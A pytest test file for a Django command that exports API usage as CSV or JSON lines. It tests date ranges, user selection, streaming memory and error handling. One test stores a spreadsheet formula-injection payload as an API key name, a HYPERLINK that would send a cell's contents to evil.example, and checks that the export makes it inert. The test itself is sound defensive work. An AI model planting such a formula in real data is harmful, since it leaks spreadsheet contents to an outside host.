"""manage.py export_usage: UTC days with --to exclusive, one user or all, CSV or JSON lines, streamed."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from accounts.models import ApiKey
from billing.exports import OPERATOR_COLUMNS, USAGE_COLUMNS
from billing.models import UsageRecord, UsageStatus
from tests.conftest import make_user
from tests.servers import ROOT, server_env

DAY = datetime(2026, 11, 10, tzinfo=UTC)


def record(user, at: datetime, n: int, key=None, cost="0.00012345") -> UsageRecord:
    return UsageRecord(
        request_id=f"req-{user.pk}-{n}",
        user=user,
        api_key=key,
        model="gpt-4o-mini",
        channel="ch_x",
        input_tokens=10 + n,
        output_tokens=5,
        cost_usd=Decimal(cost),
        latency_ms=120,
        status=UsageStatus.OK,
        created_at=at,
    )


def export(*args: str) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    call_command("export_usage", *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


@pytest.fixture
def usage(db, alice, bob):
    key = ApiKey.objects.create(user=alice, name="laptop", prefix="sk-hub-abcd", key_hash="0" * 64)
    tick = timedelta(microseconds=1)
    UsageRecord.objects.bulk_create(
        [
            record(alice, DAY - tick, 1, key),  # the evening before: outside
            record(alice, DAY, 2, key),  # the first instant of --from: inside
            record(bob, DAY + timedelta(hours=12), 3),
            record(alice, DAY + timedelta(days=2) - tick, 4),  # the last instant before --to: inside
            record(alice, DAY + timedelta(days=2), 5),  # --to itself: outside
        ]
    )


def test_csv_holds_the_utc_days_from_up_to_not_including_to_with_the_usage_columns(usage):
    out, err = export("--from", "2026-11-10", "--to", "2026-11-12")
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == OPERATOR_COLUMNS and rows[0][: len(USAGE_COLUMNS)] == USAGE_COLUMNS
    got = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert sorted(r["request_id"].rsplit("-", 1)[1] for r in got) == ["2", "3", "4"]
    first = next(r for r in got if r["request_id"].endswith("-2"))
    assert first["key"] == "laptop" and first["user"] == "alice" and first["channel"] == "ch_x"
    assert first["cost_usd"] == "0.00012345" and first["time"] == "2026-11-10T00:00:00+00:00"
    assert "exported 3 row(s)" in err


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_made_inert(db, alice):
    key = ApiKey.objects.create(user=alice, name='=HYPERLINK("https://evil.example/?"&A2,"x")', key_hash="1" * 64)
    UsageRecord.objects.bulk_create([record(alice, DAY, 7, key)])
    UsageRecord.objects.filter(request_id=f"req-{alice.pk}-7").update(model="@SUM(1+1)")
    out, _ = export("--from", "2026-11-10", "--to", "2026-11-11")
    row = dict(zip(OPERATOR_COLUMNS, next(csv.reader(io.StringIO(out.splitlines()[1]))), strict=True))
    assert row["key"].startswith("'=HYPERLINK") and row["model"] == "'@SUM(1+1)"
    assert row["cost_usd"] == "0.00012345" and row["input_tokens"] == "17"  # numbers untouched


def test_a_username_of_digits_is_a_username(db, alice):
    digits = make_user("3")
    UsageRecord.objects.bulk_create([record(digits, DAY, 1), record(alice, DAY, 2)])
    out, _ = export("--from", "2026-11-10", "--to", "2026-11-11", "--user", "3", "--format", "jsonl")
    assert [json.loads(line)["user"] for line in out.splitlines()] == ["3"]


def test_one_user_by_name_or_id_and_json_lines(usage, alice):
    by_name, _ = export("--from", "2026-11-01", "--to", "2026-12-01", "--user", "alice", "--format", "jsonl")
    by_id, _ = export("--from", "2026-11-01", "--to", "2026-12-01", "--user-id", str(alice.pk), "--format", "jsonl")
    assert by_name == by_id
    lines = [json.loads(line) for line in by_name.splitlines()]
    assert len(lines) == 4 and {line["user"] for line in lines} == {"alice"}
    assert list(lines[0]) == OPERATOR_COLUMNS and lines[0]["cost_usd"] == "0.00012345"


@pytest.mark.parametrize(
    "args, message",
    [
        (["--from", "2026-11-12", "--to", "2026-11-12"], "must be after --from"),
        (["--from", "2026-11-10", "--to", "2026-11-12", "--user", "nobody"], "no such user: nobody"),
    ],
)
def test_a_refused_export_says_why_and_writes_nothing(usage, args, message):
    out = io.StringIO()
    with pytest.raises(CommandError, match=message):
        call_command("export_usage", *args, stdout=out, stderr=io.StringIO())
    assert out.getvalue() == ""


# The command as manage.py runs it, reporting its own peak resident memory (VmHWM, counted from its
# exec: a child's ru_maxrss would include the pytest process it was forked from) as its last line.
PEAK_REPORTING_MANAGE = """
import atexit, re, runpy, sys
def peak():
    status = open("/proc/self/status").read()
    sys.stderr.write("peak_kib=" + re.search(r"VmHWM:\\s+(\\d+)", status).group(1) + "\\n")
atexit.register(peak)
sys.argv = ["manage.py", *sys.argv[1:]]
runpy.run_path("manage.py", run_name="__main__")
"""


def run_export(*args: str) -> tuple[subprocess.CompletedProcess, int]:
    """The command in its own process (plain stdout, no terminal); returns it and its peak RSS in KiB."""
    done = subprocess.run(
        [sys.executable, "-c", PEAK_REPORTING_MANAGE, "export_usage", *args],
        cwd=ROOT,
        env=server_env(),
        capture_output=True,
        timeout=300,
    )
    peak = int(done.stderr.rsplit(b"peak_kib=", 1)[1])
    return done, peak


@pytest.mark.services
@pytest.mark.django_db(transaction=True)
def test_the_export_streams_in_constant_memory_and_shows_plain_progress_off_a_terminal(alice):
    start = datetime(2026, 10, 1, tzinfo=UTC)
    small, large = 2_000, 60_000

    def seed(count: int, offset: int) -> None:
        UsageRecord.objects.bulk_create(
            (record(alice, start + timedelta(seconds=i), offset + i) for i in range(count)), batch_size=5000
        )

    seed(small, 0)
    done_small, peak_small = run_export("--from", "2026-10-01", "--to", "2026-10-02")
    seed(large - small, small)
    done_large, peak_large = run_export("--from", "2026-10-01", "--to", "2026-10-02")
    assert done_small.returncode == 0 and done_large.returncode == 0, done_large.stderr
    assert done_large.stdout.count(b"\n") == large + 1  # the header and every row, each once
    assert b"exported 60000 row(s)" in done_large.stderr and b"\r" not in done_large.stderr
    # 60,000 rows loaded at once peak ~190 MB above 2,000 (measured); streamed in chunks, a few MB.
    assert peak_large - peak_small < 25_000, (peak_small, peak_large)


@pytest.mark.services
@pytest.mark.django_db(transaction=True)
def test_a_database_that_cannot_be_reached_is_one_line_and_exit_1():
    env = server_env(DATABASE_URL="postgres://postgres@127.0.0.1:1/nowhere")
    done = subprocess.run(
        [sys.executable, "manage.py", "export_usage", "--from", "2026-10-01", "--to", "2026-10-02"],
        cwd=ROOT,
        env={**env, "PYTHONWARNINGS": "ignore"},
        capture_output=True,
        timeout=60,
    )
    assert done.returncode == 1 and done.stdout == b""
    lines = done.stderr.decode().strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("CommandError: database error:"), done.stderr
    assert "Traceback" not in done.stderr.decode()
    assert "postgres://" not in lines[0]
